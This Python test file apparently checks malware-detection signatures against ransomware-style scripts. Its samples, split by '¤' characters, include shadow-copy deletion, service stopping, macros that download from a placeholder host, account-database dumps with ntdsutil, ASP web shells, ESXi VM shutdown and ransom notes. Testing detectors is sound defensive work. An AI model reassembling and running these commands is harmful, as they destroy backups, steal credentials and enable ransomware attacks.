"""The same attacks written another way, and the ordinary scripts and pages that look like them."""

import pytest

from tests.signatures.pieces import whole
from tests.signatures.test_rule_samples import names

ENCODINGS = ("utf-8", "utf-8-sig", "utf-16")
LONG = "\r\n" + "# One more line of a script that has many of them.\r\n" * 30
FIRST = ("rem job", ":: job", "cls", "title x", "", "color 0a", "# Script")
BEGUN = ("echo off", " echo  off", "param([string]$a)", "Param (", "setlocal", "@setlocal")
SERVICES = (
    ("SQL Server (DENTAL)", "SQL Server Agent (DENTAL)", "SQL Server Browser", "SQL Server VSS Writer"),
    ("MariaDB", "WinDefend", "MSSQLSERVER", "Malwarebytes Service"),
    ("outlook", "ShadowProtectSvc", "NoSQL", "SQLDental"),
)
OPENINGS = (
    "Sub AutoOpen()",
    "Sub  AutoOpen()",
    "Sub\tAutoOpen ()",
    "Function Auto_Open()",
    "Public Function AutoOpen() As Boolean",
    "Function Document_Open()",
    "Private Sub Workbook_BeforeClose(Cancel As Boolean)",
    "Function AutoExec()",
)
LINKS = (
    "URL=  file://h.example/a.exe",
    "URL=\tfile://h.example/a.exe",
    'URL= "\\\\h.example\\s\\a.exe"',
    "URL='file://h.example/a.exe'",
    "URL=file:/\\h.example/a.exe",
    "URL=file:\\/h.example/a.exe",
    "url\t=\tfile://h.example/a.vbs",
    "URL =  \\\\h.example\\s\\a.exe",
)
REMOVALS = (
    'de¤l "D:\\patients\\*.*"',
    "de¤l %1",
    'de¤l "%~1"',
    "de¤l\t%TEMP%\\a",
    'era¤se "%X%"',
    "sde¤lete -p 3 D:",
    "cip¤her /w D:",
)
LOCKS = ('gp¤g --symm¤etric "%%f"', 'gp¤g.exe -c "%%f"', 'open¤ssl enc -aes-256-cbc -in "%%f"')
DUMPS = (
    "nt¤dsutil.exe 'ac i ntds' 'ifm' 'create full c:\\t' q q",
    'nt¤dsutil "ac i ntds" "ifm" \'create rodc c:\\t\' q q',
    'nt¤dsutil "ac i ntds" ifm ^"create sysvol c:\\t^" q q',
)
ORDINARY_PAGES = (
    'if(!Request.IsAuthenticated) return; Process¤.Start("cmd.exe", "/c C:\\\\backup\\\\save.bat");',
    '// on request (monthly)\nvar p=new Process¤(); p.StartInfo.FileName="cmd.exe"; p.Start();',
    '\' the question (see above)\nProcess¤.Start("cmd.exe /c dir")',
    'WebRequest r=CreateRequest(url); Process¤.Start("cmd.exe");',
)
ASKING_PAGES = (
    'Dim p As New ProcessSt¤artInfo("cmd.exe", Request¤.Item("c"))',
    'Process¤.Start("cmd.exe", Request¤(wanted))',
    'Process¤.Start("cmd.exe", Request¤.Form [ "c" ])',
)
MACHINES = "#!/bin/sh\nvim-c¤md vmsvc/power.o¤ff $i\nvim-c¤md vmsvc/snapshot.remo¤veall $i\n"


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("begun", BEGUN)
@pytest.mark.parametrize("first", FIRST)
def test_one_command_in_a_long_script_is_known_whatever_comes_before(
    first: str, begun: str, encoding: str
) -> None:
    text = whole(f"{first}\r\n{begun}\r\nvss¤admin delete shadows /all /quiet") + LONG
    assert "Trousse_Script_Destroys_Recovery" in names(text.encode(encoding))
    assert "Trousse_Script_Destroys_Recovery" in names(
        text.removeprefix(first).lstrip("\r\n").encode(encoding)
    )


def test_one_command_in_a_long_text_that_is_no_script_is_not_taken_for_one() -> None:
    text = whole("The echo of parameters\r\nvss¤admin delete shadows /all /quiet") + LONG
    assert names(text.encode()) == ()


@pytest.mark.parametrize("listed", SERVICES)
def test_services_are_known_by_the_name_windows_shows(listed: tuple[str, ...]) -> None:
    lines = [f'net stop "{name}" /y' for name in listed * 2]
    assert "Trousse_Script_Stops_Services" in names("\r\n".join(["@echo off", *lines]).encode())
    assert "Trousse_Script_Stops_Services" not in names("\r\n".join(["@echo off", *lines[:7]]).encode())


@pytest.mark.parametrize("opening", OPENINGS)
def test_a_macro_that_starts_by_itself_is_known_however_it_is_declared(opening: str) -> None:
    lines = (
        'Attribute VB¤_Name = "M"',
        opening,
        'c = "%s"',
        'Shell¤ c & " -f http://h.example/a.exe"',
        "End Sub",
    )
    for program in ("cert¤util", "bits¤admin"):
        assert {"Trousse_Macro_Source_Runs_Command", "Trousse_Macro_Source_Fetches_Program"} <= set(
            names(whole("\r\n".join(lines) % program).encode())
        )
    assert names(whole("\r\n".join((lines[0], "Sub Reopen()", *lines[2:])) % "cert¤util").encode()) == ()


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("link", LINKS)
def test_a_link_to_a_program_elsewhere_is_known_however_it_is_spaced(link: str, encoding: str) -> None:
    rule = "Trousse_Internet_Shortcut_Runs_Remote"
    assert rule in names(f"[InternetShortcut]\r\n{link}\r\n".encode(encoding))
    assert rule not in names(f"[InternetShortcut]\r\n{link.replace('a.', 'a.x')}\r\n".encode(encoding))


@pytest.mark.parametrize("lock", LOCKS)
@pytest.mark.parametrize("removal", REMOVALS)
def test_files_locked_one_by_one_then_removed_are_known(lock: str, removal: str) -> None:
    rule = "Trousse_Script_Archives_And_Deletes"
    text = f"@echo off\r\nfor /r D:\\dossiers %%f in (*.*) do {lock}\r\n"
    for encoding in ("utf-8", "utf-16"):
        assert rule in names(whole(text + removal).encode(encoding))
        assert rule not in names(whole(text).encode(encoding))
        assert rule not in names(whole(text + "model D:").encode(encoding))
        assert rule not in names(whole(text.replace("-", "") + removal).encode(encoding))


@pytest.mark.parametrize("dump", DUMPS)
def test_a_copy_of_the_accounts_is_known_whatever_it_is_quoted_with(dump: str) -> None:
    assert "Trousse_Script_Takes_Passwords" in names(whole(f"@echo off\r\n{dump}\r\n").encode())


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_page_is_known_by_running_what_it_is_asked_and_no_other(encoding: str) -> None:
    page = '<%%@ Page Language="C#" %%><%% %s %%>'
    for body in ORDINARY_PAGES:
        assert names(whole(page % body).encode(encoding)) == ()
    for body in ASKING_PAGES:
        assert "Trousse_Webshell_Asp_Runs_Request" in names(whole(page % body).encode(encoding))


def test_machines_are_stopped_by_an_attack_only_where_files_are_encrypted() -> None:
    rule = "Trousse_Intrusion_Stops_Virtual_Machines"
    assert rule in names(whole(MACHINES + "./encr¤ypt /vmfs/volumes\n").encode())
    assert rule not in names(whole(MACHINES + "# the password is kept by bcrypt, see libcrypto\n").encode())


@pytest.mark.parametrize("given", ["open\t=\tx.vbs", "open  = x.vbs", "open=x.vbs"])
def test_a_stick_that_starts_a_script_is_known_however_it_is_spaced(given: str) -> None:
    assert "Trousse_Stick_Autorun_Hidden_Program" in names(whole(f"[auto¤run]\r\n{given}\r\n").encode())


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252", "cp850", "utf-16"])
def test_a_demand_in_capitals_is_known_as_well(encoding: str) -> None:
    german = "ALLE DATEIEN SIND VERSCHL¤ÜSSELT. ZUM ENTSCHL¤ÜSSELN ZAHLEN SIE IN BIT¤COIN: A@PROTON.ME" + LONG
    french = (
        "VOS DONNÉES SONT CRYPT¤ÉES. NE RENOMMEZ PAS. LA RAN¤ÇON EST DUE. CONTACT A@ONIONM¤AIL.ORG" + LONG
    )
    assert "Trousse_Note_Other_Languages" in names(whole(german).encode(encoding))
    assert "Trousse_Note_French" in names(whole(french).encode(encoding))
